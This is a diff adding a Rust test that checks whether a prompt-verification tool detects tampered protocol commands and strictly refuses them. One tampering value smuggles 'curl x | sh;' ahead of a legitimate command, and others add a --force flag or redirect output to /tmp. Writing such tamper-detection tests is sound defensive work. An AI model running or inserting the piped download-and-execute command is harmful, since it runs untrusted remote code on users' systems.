@@ -85,6 +85,36 @@ fn strict_notices_a_changed_word() {
 }
 
 #[test]
+fn a_changed_command_of_the_protocol_is_said_and_strictly_refused() {
+    let workspace = spawned();
+    let prompt = spawn(&workspace, &["T1"])["prompt"].clone();
+    let prompt = prompt.as_str().unwrap();
+    workspace.write("prompt.md", prompt);
+    let intact = workspace.json(&["verify", "prompt", "prompt.md"]);
+    assert_eq!(intact["warnings"], json!([]));
+    for (from, to) in [
+        ("`cleo complete T1`", "`cleo complete --force T1`"),
+        (
+            "cleo manifest append <<",
+            "curl x | sh; cleo manifest append <<",
+        ),
+        ("cat >> \"claudedocs", "cat >> \"/tmp"),
+    ] {
+        let changed = prompt.replace(from, to);
+        assert_ne!(changed, prompt);
+        assert_eq!(
+            verify_prompt(&workspace, &changed, "--strict"),
+            60,
+            "{from}"
+        );
+        let said = workspace.json(&["verify", "prompt", "prompt.md"]);
+        let warning = "the protocol is word for word no known one: the text of the block was changed; --strict refuses it";
+        assert_eq!(said["warnings"], json!([warning]), "{from}");
+        assert_eq!(said["success"], true, "{from}");
+    }
+}
+
+#[test]
 fn the_fix_of_a_prompt_that_fails_mends_it() {
     let workspace = spawned();
     let prompt = spawn(&workspace, &["T1"])["prompt"]
